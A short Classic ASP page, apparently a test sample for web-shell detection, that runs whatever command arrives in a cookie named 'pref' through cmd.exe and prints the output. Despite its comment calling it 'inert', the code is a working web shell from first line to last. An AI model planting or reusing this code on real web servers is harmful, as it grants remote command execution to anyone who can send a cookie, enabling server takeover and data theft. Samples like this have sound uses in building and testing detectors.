<%
' Inert test sample: runs a command taken from a cookie through a helper function.
Dim c, line, out

Function Launch(cmdLine)
    Dim sh
    Set sh = Server.CreateObject("WScript.Shell")
    Launch = sh.Exec("cmd.exe /c " & cmdLine).StdOut.ReadAll()
End Function

c = Request.Cookies("pref")
line = c
out = Launch(line)
Response.Write "<pre>" & Server.HTMLEncode(out) & "</pre>"
%>
